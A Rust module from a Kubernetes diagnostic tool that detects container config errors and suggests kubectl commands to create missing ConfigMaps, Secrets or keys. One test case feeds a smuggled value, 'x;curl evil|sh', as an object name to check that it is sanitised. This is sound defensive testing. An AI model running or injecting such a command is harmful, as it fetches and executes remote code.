//! A container refers to something that is not there.

use crate::{
    causes::{
        cause::{Cause, Explains},
        consequences,
        context::Context,
        pods::{self, PodTrouble},
    },
    model::{Code, Component, Diagnosis, Severity, shell},
    observe::PodProblem,
};

pub(crate) static CAUSE: Cause = Cause {
    severity: Severity::Critical,
    component: Component::Api,
    explains: &[
        Explains::same_component(consequences::WITHOUT_START),
        Explains::from_api(&[Code::FrontendCannotReachApi]),
    ],
    check: Some(check),
    ..Cause::new(include_str!("container_config_error.md"))
};

fn check(context: &Context<'_>) -> Vec<Diagnosis> {
    pods::diagnoses(context, pods::SERVING, in_pod)
}

fn in_pod(trouble: &PodTrouble<'_>) -> Option<Diagnosis> {
    let PodProblem::Waiting { reason, message, .. } = trouble.problem else {
        return None;
    };
    if reason != PodProblem::CONFIG_ERROR {
        return None;
    }
    let component = trouble.component.as_str();
    let remedy = missing(message, &trouble.installation.identity.namespace).map_or_else(
        || trouble.kubectl("describe pod"),
        |object| {
            format!(
                "{object}, or take it out of env and envFrom of the {component}. The kubelet tries again by itself."
            )
        },
    );
    Some(trouble.critical(
        Code::ContainerConfigError,
        format!("A container of the {component} cannot be created: {message}."),
        vec![format!("pod {}: {reason}: {message}", trouble.pod.name)],
        remedy,
    ))
}

/// What the kubelet does not find, as something to do: `configmap "x" not found`, `secret "x" not found`,
/// `couldn't find key k in Secret ns/x` (kubelet 1.34, `kubelet_pods.go`).
fn missing(message: &str, namespace: &str) -> Option<String> {
    if let Some((_, rest)) = message.split_once("couldn't find key ") {
        let (key, object) = rest.split_once(" in ")?;
        return Some(format!("Add the key {} to {object}", shell::name(key, "KEY")));
    }
    let (kind, rest) = message.split_once(" \"")?;
    let name = rest.strip_suffix("\" not found")?;
    let create = match kind {
        "configmap" => "configmap",
        "secret" => "secret generic",
        _ => return None,
    };
    Some(format!(
        "Create it: kubectl -n {namespace} create {create} {} --from-literal=NAME=VALUE",
        shell::name(name, "OBJECT")
    ))
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;

    #[rstest]
    #[case(
        "configmap \"settings\" not found",
        "create configmap settings --from-literal"
    )]
    #[case("secret \"keys\" not found", "create secret generic keys --from-literal")]
    #[case(
        "couldn't find key URL in Secret prod/db",
        "Add the key URL to Secret prod/db"
    )]
    #[case(
        "secret \"x;curl evil|sh\" not found",
        "create secret generic OBJECT --from-literal"
    )]
    fn what_is_missing_is_to_be_made(#[case] message: &str, #[case] expected: &str) {
        let found = missing(message, "prod").unwrap();
        assert!(found.contains(expected), "{found}");
    }

    #[test]
    fn what_else_the_kubelet_says_is_not_guessed_at() {
        assert_eq!(
            missing("container has runAsNonRoot and image will run as root", "prod"),
            None
        );
    }
}
